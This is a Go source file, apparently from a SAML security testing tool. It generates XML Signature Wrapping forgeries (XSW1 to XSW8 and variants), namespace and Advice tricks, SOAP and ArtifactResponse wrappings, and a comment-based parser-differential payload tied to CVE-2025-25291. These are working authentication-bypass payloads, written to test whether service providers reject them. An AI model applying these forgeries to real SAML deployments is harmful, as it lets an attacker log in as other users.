package saml

import (
	"slices"

	"github.com/beevik/etree"
)

// wrappingMutations are the signature wrapping attacks that SAML Raider numbers XSW1 to XSW8, and more of
// their kind: the genuine signed element is still there and verifies, and somewhere else stands a forged one
// that a careless service provider reads. Of the numbered ones 1 and 2 wrap the response, the others the
// assertion; each comes with a forged ID of its own, the genuine one, and none.
func wrappingMutations() []Mutation {
	return slices.Concat(
		numbered("", "", func(e *etree.Element, _ string) { e.CreateAttr("ID", newID()) }),
		numbered("-same-id", ", under the same ID", func(e *etree.Element, genuine string) { e.CreateAttr("ID", genuine) }),
		numbered("-no-id", ", without an ID", func(e *etree.Element, _ string) { e.RemoveAttr("ID") }),
		otherWrappings(),
	)
}

// numbered are XSW1 to XSW8. mark gives what is forged its ID.
func numbered(suffix, about string, mark func(forged *etree.Element, genuineID string)) []Mutation {
	xsw := func(number, text string, after func(forgery, *message)) Mutation {
		return Mutation{Name: "saml-xsw" + number + suffix, Rows: rows("SAML-XSW-" + number), Text: text + about + " (Core 5.4.2)", after: after}
	}
	forge := func(f forgery, m *message) *etree.Element {
		evil := m.forged(f)
		mark(evil, m.assertion.SelectAttrValue("ID", ""))
		return evil
	}
	return []Mutation{
		xsw("1", "the genuine response is inside the Signature of the forged one", wrapResponse(mark, func(evil, genuine, signature *etree.Element) {
			signature.AddChild(genuine)
			insertAfterIssuer(evil, signature)
		})),
		xsw("2", "the genuine response is in the forged one, before its detached Signature", wrapResponse(mark, func(evil, genuine, signature *etree.Element) {
			insertAfterIssuer(evil, signature)
			evil.InsertChildAt(signature.Index(), genuine)
		})),
		xsw("3", "a forged assertion stands before the genuine one",
			func(f forgery, m *message) { m.response.InsertChildAt(m.assertion.Index(), forge(f, m)) }),
		xsw("4", "a forged assertion is the parent of the genuine one", func(f forgery, m *message) {
			evil, at := forge(f, m), m.assertion.Index()
			m.response.RemoveChild(m.assertion)
			evil.AddChild(m.assertion)
			m.response.InsertChildAt(at, evil)
		}),
		xsw("5", "the forged assertion has the Signature, the genuine one comes after it without", func(f forgery, m *message) {
			evil := forge(f, m)
			if signature := removeSignature(m.assertion); signature != nil {
				insertAfterIssuer(evil, signature)
			}
			m.response.InsertChildAt(m.assertion.Index(), evil)
		}),
		xsw("6", "the genuine assertion is inside the Signature of the forged one", wrapAssertion(forge, func(evil, genuine, signature *etree.Element) {
			signature.AddChild(genuine)
			insertAfterIssuer(evil, signature)
		})),
		xsw("7", "a forged assertion is in Extensions, before the genuine one", func(f forgery, m *message) { plant(m.response, forge(f, m)) }),
		xsw("8", "the genuine assertion is in an Object of the Signature of the forged one", wrapAssertion(forge, func(evil, genuine, signature *etree.Element) {
			object := signature.CreateElement(signature.Space + ":Object")
			object.AddChild(genuine)
			insertAfterIssuer(evil, signature)
		})),
	}
}

func otherWrappings() []Mutation {
	return []Mutation{
		{Name: "saml-forged-last", Rows: rows("SAML-XSW-9"), Text: "a forged assertion stands after the genuine one (Core 5.4.2)",
			after: func(f forgery, m *message) { m.response.AddChild(m.forged(f)) }},
		{Name: "saml-two-genuine", Rows: rows("SAML-XSW-9"), Text: "two assertions about two people, both genuinely signed (Profiles 4.1.4.2: about one subject)",
			before: func(f forgery, m *message) {
				second := m.forged(f)
				m.fail(m.seal.sign(second))
				m.response.InsertChildAt(m.assertion.Index(), second)
			}},
		{Name: "saml-assertion-beside-encrypted", Rows: rows("SAML-XSW-9"), Text: "a forged assertion stands before the genuine one, which is encrypted (Core 5.4.2)", encrypts: true,
			before: func(f forgery, m *message) { m.spare = m.forged(f) },
			after: func(_ forgery, m *message) {
				m.response.InsertChildAt(m.response.SelectElement("EncryptedAssertion").Index(), m.spare)
			}},
		{Name: "saml-id-pollution", Rows: rows("SAML-XSW-11"), Text: "a forged assertion has the genuine one's ID too, in the assertion namespace (Core 1.3.4)",
			after: func(f forgery, m *message) {
				evil := m.forged(f)
				evil.CreateAttr("saml:ID", m.assertion.SelectAttrValue("ID", ""))
				m.response.InsertChildAt(m.assertion.Index(), evil)
			}},
		{Name: "saml-duplicate-id", Rows: rows("SAML-XSW-13"), Text: "a forged assertion after the genuine one has the same ID (Core 1.3.4)",
			after: func(f forgery, m *message) {
				evil := m.forged(f)
				evil.CreateAttr("ID", m.assertion.SelectAttrValue("ID", ""))
				m.response.AddChild(evil)
			}},
		{Name: "saml-parser-differential", Rows: rows("SAML-XSW-12"), Text: "a document type whose notation holds a comment's beginning, so that parsers see different trees (CVE-2025-25291)",
			raw: parserDifferential},
		wrapped("saml-in-soap", "a SOAP envelope has the forged response in its header and the genuine one in its body", func(evil, genuine *etree.Element) *etree.Element {
			envelope := element("soap", "Envelope", "http://schemas.xmlsoap.org/soap/envelope/")
			child(envelope, "Header", "").AddChild(evil)
			child(envelope, "Body", "").AddChild(genuine)
			return envelope
		}),
		wrapped("saml-in-artifact-response", "an ArtifactResponse has the forged response and the genuine one", func(evil, genuine *etree.Element) *etree.Element {
			artifact := genuine.Copy()
			artifact.Tag, artifact.Child = "ArtifactResponse", nil
			artifact.AddChild(evil)
			artifact.AddChild(genuine)
			return artifact
		}),
		wrapped("saml-response-in-response", "the genuine response is the last child of a forged one that is not signed", func(evil, genuine *etree.Element) *etree.Element {
			evil.AddChild(genuine)
			return evil
		}),
	}
}

// namespaceMutations are a forged assertion that only a careless search takes for one, or a careful one overlooks.
func namespaceMutations() []Mutation {
	elsewhere := func(name, about string, change func(*etree.Element)) Mutation {
		return Mutation{Name: name, Rows: rows("SAML-XSW-10"), Text: "a forged assertion stands before the genuine one, " + about + " (Core 5.4.2)",
			after: func(f forgery, m *message) {
				evil := m.forged(f)
				change(evil)
				m.response.InsertChildAt(m.assertion.Index(), evil)
			}}
	}
	return []Mutation{
		elsewhere("saml-forged-other-prefix", "under another prefix", func(e *etree.Element) { prefix(e, "assay", nsAssertion) }),
		elsewhere("saml-forged-saml-1.1", "in the namespace of SAML 1.1", func(e *etree.Element) { prefix(e, "saml1", "urn:oasis:names:tc:SAML:1.0:assertion") }),
		elsewhere("saml-forged-no-namespace", "in no namespace", func(e *etree.Element) { prefix(e, "", "") }),
		{Name: "saml-forged-in-advice", Rows: rows("SAML-XSW-10"), Text: "a forged assertion is in the Advice of the genuine one, which is signed (Core 2.6.1: it may be ignored)",
			before: func(f forgery, m *message) {
				advice := element("saml", "Advice", nsAssertion)
				advice.AddChild(m.forged(f))
				m.assertion.InsertChildAt(m.assertion.SelectElement("Conditions").Index()+1, advice)
			}},
	}
}

// prefix puts an element and what it has of its namespace under another prefix.
func prefix(e *etree.Element, to, namespace string) {
	from := e.Space
	e.RemoveAttr("xmlns:" + from)
	if to != "" {
		e.CreateAttr("xmlns:"+to, namespace)
	}
	for _, inside := range append(e.FindElements(".//*"), e) {
		if inside.Space == from {
			inside.Space = to
		}
	}
}

// wrapped puts a forged copy of the response and the genuine one into a new root.
func wrapped(name, about string, place func(evil, genuine *etree.Element) *etree.Element) Mutation {
	return Mutation{Name: name, Rows: rows("SAML-XSW-14"), Text: about + " (Bindings 3.5.4: the Response itself)", after: func(f forgery, m *message) {
		m.response = place(forgedResponse(f, m.response), m.response)
	}}
}

func forgedResponse(f forgery, genuine *etree.Element) *etree.Element {
	evil := genuine.Copy()
	removeSignature(evil)
	evil.CreateAttr("ID", newID())
	assertion := evil.SelectElement("Assertion")
	removeSignature(assertion)
	assertion.CreateAttr("ID", newID())
	rename(assertion, f.stranger)
	return evil
}

// wrapResponse makes the response a forged one and lets place put the genuine one, unsigned, and its
// signature somewhere. Where only the assertion is signed, its signature serves.
func wrapResponse(mark func(*etree.Element, string), place func(evil, genuine, signature *etree.Element)) func(forgery, *message) {
	return func(f forgery, m *message) {
		genuine := m.response
		evil := forgedResponse(f, genuine)
		mark(evil, genuine.SelectAttrValue("ID", ""))
		signature := removeSignature(genuine)
		if signature == nil {
			signature = removeSignature(m.assertion)
		}
		if signature == nil {
			return // nothing was signed: there is nothing to wrap
		}
		place(evil, genuine, signature)
		m.response = evil
	}
}

// wrapAssertion does the same for the assertion.
func wrapAssertion(forge func(forgery, *message) *etree.Element, place func(evil, genuine, signature *etree.Element)) func(forgery, *message) {
	return func(f forgery, m *message) {
		evil, at := forge(f, m), m.assertion.Index()
		signature := removeSignature(m.assertion)
		if signature == nil {
			signature = removeSignature(m.response)
		}
		if signature == nil {
			return
		}
		m.response.RemoveChild(m.assertion)
		place(evil, m.assertion, signature)
		m.response.InsertChildAt(at, evil)
	}
}

// parserDifferential puts two documents one after the other: a parser that takes the notation's "<!--" for a
// comment reads on until its end, and sees the forged one only.
func parserDifferential(f forgery, raw []byte) []byte {
	evil := replaceNameID(raw, escape(f.stranger))
	return slices.Concat([]byte(`<!DOCTYPE assay [<!NOTATION assay SYSTEM 'x"><!--'>]>`), raw, []byte("<!-- '>]>-->"), evil)
}
